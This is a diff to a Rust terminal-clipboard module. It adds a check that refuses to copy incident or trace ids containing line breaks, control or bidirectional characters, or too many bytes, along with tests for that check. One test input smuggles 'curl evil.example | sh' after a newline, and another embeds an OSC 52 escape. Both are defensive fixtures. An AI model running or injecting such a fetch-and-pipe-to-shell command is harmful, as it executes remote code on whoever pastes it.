@@ -2,6 +2,14 @@
 //! the OSC 52 escape (`ESC ] 52 ; c ; <base64> BEL`), which the terminal emulator, not the
 //! remote host, turns into a clipboard write. Inside tmux the escape is wrapped in tmux's
 //! passthrough (`ESC P tmux; … ESC \`, every ESC inside doubled) so tmux hands it on.
+//!
+//! What is copied is mostly outside text — an incident id, a trace id — and it goes where the
+//! responder pastes it: a shell. Text that would act there (a line break runs what came
+//! before it; a control or bidirectional character hides what it does) is refused, not
+//! escaped: an escaped id is another id, and a copy that silently differs from what the
+//! backend calls the incident is worse than none. The screen shows it escaped, and says why
+//! nothing was copied. Text too long for a terminal's clipboard is refused for the same
+//! reason, rather than copied cut short.
 
 use std::io::{self, Write};
 
@@ -27,6 +35,22 @@ pub fn base64(bytes: &[u8]) -> String {
         out.push(if chunk.len() > 2 { sextet(0) } else { '=' });
     }
     out
+}
+
+/// Why `text` must not be copied, if it must not: said after the name of what it is
+/// ("the incident id …").
+pub fn refusal(text: &str) -> Option<String> {
+    if let Some(shown) = crate::inert::unsafe_to_paste(text) {
+        return Some(format!(
+            "holds {shown}, which a shell would act on when pasted: not copied"
+        ));
+    }
+    (text.len() > MAX_COPY_BYTES).then(|| {
+        format!(
+            "is {} bytes, more than a terminal's clipboard takes ({MAX_COPY_BYTES}): not copied",
+            text.len()
+        )
+    })
 }
 
 /// The escape sequence that puts `text` on the clipboard; wrapped for tmux when `tmux`.
@@ -85,6 +109,22 @@ mod tests {
             .trim_start_matches("\x1b]52;c;")
             .trim_end_matches('\x07');
         assert!(payload.len() <= MAX_COPY_BYTES.div_ceil(3) * 4);
+    }
+
+    #[test]
+    fn text_that_would_act_in_a_shell_or_be_cut_is_refused() {
+        assert_eq!(refusal("4bf92f3577b34da6a3ce929d0e0e4736"), None);
+        assert_eq!(refusal(&"é".repeat(MAX_COPY_BYTES / 2)), None);
+        let why = refusal("DEMO-1\ncurl evil.example | sh").unwrap();
+        assert!(why.starts_with("holds \\n, which a shell"), "{why}");
+        let why = refusal("x\u{1b}]52;c;eA==\u{7}").unwrap();
+        assert!(why.starts_with("holds \\e"), "{why}");
+        assert!(refusal("abc\u{202e}").is_some());
+        let why = refusal(&"a".repeat(MAX_COPY_BYTES + 1)).unwrap();
+        assert!(
+            why.contains("more than a terminal's clipboard takes"),
+            "{why}"
+        );
     }
 
     #[test]
